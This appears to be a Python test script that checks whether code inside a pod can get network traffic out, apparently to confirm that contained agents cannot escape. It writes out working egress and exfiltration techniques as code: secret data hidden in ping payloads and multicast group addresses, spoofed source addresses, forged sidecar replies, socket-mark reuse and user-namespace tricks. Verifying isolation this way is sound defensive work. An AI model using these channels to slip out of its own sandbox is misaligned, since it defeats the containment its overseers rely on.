"""Ways out of a pod, tried: `python attempts.py USER NAME…` prints what came of each, as JSON.

Standard library only, and one file: it also runs inside pods, whose agents are as inventive.
A way is `passed` when something came back, or else the reason why not.
"""

import contextlib
import ctypes
import errno
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable

V4 = os.environ.get("OUTSIDE_V4", "10.9.0.2")
V6 = os.environ.get("OUTSIDE_V6", "fd09::2")
PORT = int(os.environ.get("OUTSIDE_PORT", "7700"))
OWN_V6 = "fd09::1"
FRIEND = "fd0a::66"
"""Outside, an address that is not routed to us; an agent may pretend to have it."""
FRIEND_PORT = 7766
_PATIENCE_S = 3.0
_IPV6_FREEBIND = 78
_BIND_TO_DEVICE = 25
_MARK = 36
_CLONE_NEWUSER = 0x1000_0000
_JOIN_SOURCE_GROUP = 46
_OF_ADDRESS = bytes.fromhex("ff0200000000000000000001ffaabbcc")
_SECRET = bytes(4) + b"SECRETDATA"
_MPTCP, _UDPLITE, _SCTP = 262, 136, 132


def _tcp(family: int, address: str, protocol: int = 0) -> str:
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(_PATIENCE_S)
        one.connect((address, PORT))
        one.sendall(b"ping")
        return _read(one)


def _udp(family: int, address: str, port: int = PORT, protocol: int = 0) -> str:
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as one:
        one.settimeout(_PATIENCE_S)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.sendto(b"ping", (address, port))
        return _read(one)


def _read(one: socket.socket) -> str:
    return "passed" if one.recv(16) else "closed"


def _ping(family: int, address: str) -> str:
    """The kernel lets every user send echo requests, whatever is in them."""
    is_v4 = family == socket.AF_INET
    protocol = socket.IPPROTO_ICMP if is_v4 else socket.IPPROTO_ICMPV6
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as one:
        one.settimeout(_PATIENCE_S)
        one.sendto(bytes([8 if is_v4 else 128, 0, 0, 0, 0, 0, 0, 1]) + b"secret", (address, 0))
        return _read(one)


def _raw() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as one:
        one.sendto(b"\0" * 16, (V4, 0))
    return "passed"


def _packet() -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as one:
        one.bind(("eth0", 0))
    return "passed"


def _marked() -> str:
    """With the mark of a connection that was opened from outside."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.setsockopt(socket.SOL_SOCKET, _MARK, 0x6D371)
        one.settimeout(_PATIENCE_S)
        one.connect((V4, PORT))
        return _read(one)


def _by_loopback() -> str:
    """Out by the interface that is open, for an address that is not there."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.settimeout(_PATIENCE_S)
        one.setsockopt(socket.SOL_SOCKET, _BIND_TO_DEVICE, b"lo\0")
        one.sendto(b"ping", (V6, PORT))
        return _read(one)


def _forged_udp() -> str:
    """Call oneself from a stranger's address, by loopback, and then answer the stranger."""
    with _stranger(socket.SOCK_DGRAM) as calling, _own(socket.SOCK_DGRAM) as answering:
        calling.sendto(b"hello", answering.getsockname())
        _, caller = answering.recvfrom(16)
        answering.sendto(b"secret", caller)
        return _read(answering)


def _forged_tcp() -> str:
    """The same with TCP: the answer to the forged call is the first packet that leaves."""
    with _stranger(socket.SOCK_STREAM) as calling, _own(socket.SOCK_STREAM) as answering:
        answering.listen()
        calling.connect(answering.getsockname())
        return "passed"


def _stranger(kind: int) -> socket.socket:
    one = socket.socket(socket.AF_INET6, kind)
    one.settimeout(_PATIENCE_S / 3)
    one.setsockopt(socket.IPPROTO_IPV6, _IPV6_FREEBIND, 1)
    one.bind((FRIEND, FRIEND_PORT))
    return one


def _own(kind: int) -> socket.socket:
    one = socket.socket(socket.AF_INET6, kind)
    one.settimeout(_PATIENCE_S / 3)
    one.bind((OWN_V6, 0))
    return one


def _forged_answer() -> str:
    """Answer, in the name of whom the sidecar asked, to the port that it asked from."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.settimeout(_PATIENCE_S / 3)
        one.setsockopt(socket.IPPROTO_IPV6, _IPV6_FREEBIND, 1)
        one.bind((V6, PORT))
        one.sendto(b"forged", (OWN_V6, int(os.environ.get("ASKED_FROM", "7701"))))
        return _read(one)


def _joined(group: bytes, source: bytes = b"") -> str:
    """Join a group: the kernel tells the network of it, in everybody's name."""
    link = socket.if_nametoindex("eth0")
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.settimeout(_PATIENCE_S / 2)
        if source:
            request = struct.pack("@IxxxxHHI16sI100x", link, socket.AF_INET6, 0, 0, group, 0)
            request += struct.pack("@HHI16sI100x", socket.AF_INET6, 0, 0, source, 0)
            one.setsockopt(socket.IPPROTO_IPV6, _JOIN_SOURCE_GROUP, request)
        else:
            request = group + struct.pack("@I", link)
            one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, request)
        return _read(one)


def _joined_v4() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(_PATIENCE_S / 2)
        request = socket.inet_aton("239.83.69.67") + bytes(4)
        one.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, request)
        return _read(one)


def _in_own_namespace() -> str:
    """In a user namespace everybody is root, with every capability there."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(_CLONE_NEWUSER) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    with contextlib.suppress(OSError), open("/proc/self/uid_map", "w") as uid_map:  # noqa: PTH123
        uid_map.write("77007 " + str(os.environ["ATTEMPTED_BY"]) + " 1")
    return _tcp(socket.AF_INET, V4)


def _curl() -> str:
    curl = shutil.which("curl") or "curl"
    host = V4 if ":" not in V4 else f"[{V4}]"
    said = subprocess.run(
        [curl, "--silent", "--max-time", "1", "--http0.9", f"http://{host}:{PORT}/"],
        capture_output=True,
        check=False,
    )
    return "passed" if said.stdout else f"curl {said.returncode}"


def _orphaned() -> str:
    """Much, and closed at once: what is still to be sent has no owner any more."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.settimeout(_PATIENCE_S)
        one.connect((V4, PORT))
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        _read(one)
        one.sendall(b"x" * 400_000)
    return "passed"


WAYS: dict[str, Callable[[], str]] = {
    "tcp4": lambda: _tcp(socket.AF_INET, V4),
    "tcp6": lambda: _tcp(socket.AF_INET6, V6),
    "udp4": lambda: _udp(socket.AF_INET, V4),
    "udp6": lambda: _udp(socket.AF_INET6, V6),
    "mapped": lambda: _tcp(socket.AF_INET6, f"::ffff:{V4}"),
    "dns": lambda: _udp(socket.AF_INET, V4, 53),
    "mptcp": lambda: _tcp(socket.AF_INET, V4, _MPTCP),
    "sctp": lambda: _tcp(socket.AF_INET, V4, _SCTP),
    "udplite": lambda: _udp(socket.AF_INET, V4, PORT, _UDPLITE),
    "ping4": lambda: _ping(socket.AF_INET, V4),
    "ping6": lambda: _ping(socket.AF_INET6, V6),
    "multicast4": lambda: _udp(socket.AF_INET, "224.0.0.251", 5353),
    "multicast6": lambda: _udp(socket.AF_INET6, "ff02::fb%eth0", 5353),
    "broadcast": lambda: _udp(socket.AF_INET, "255.255.255.255"),
    "raw": _raw,
    "packet": _packet,
    "marked": _marked,
    "by-loopback": _by_loopback,
    "forged-udp": _forged_udp,
    "forged-tcp": _forged_tcp,
    "forged-answer": _forged_answer,
    "joined4": _joined_v4,
    "joined6": lambda: _joined(b"\xff\x15" + _SECRET),
    "joined-source": lambda: _joined(_OF_ADDRESS, b"\xfd\x0a" + _SECRET),
    "in-own-namespace": _in_own_namespace,
    "curl": _curl,
    "orphaned": _orphaned,
}


def main(user: int, names: list[str]) -> dict[str, tuple[str, float]]:
    """What came of each way, and after how many seconds."""
    if user != os.getuid():
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
    os.environ["ATTEMPTED_BY"] = str(user)
    outcomes = {}
    for name in names:
        begun = time.monotonic()
        try:
            outcome = WAYS[name]()
        except TimeoutError:
            outcome = "silence"
        except OSError as error:
            outcome = errno.errorcode.get(error.errno or 0, str(error))
        outcomes[name] = (outcome, time.monotonic() - begun)
    return outcomes


if __name__ == "__main__":
    sys.stdout.write(json.dumps(main(int(sys.argv[1]), sys.argv[2:] or list(WAYS))))
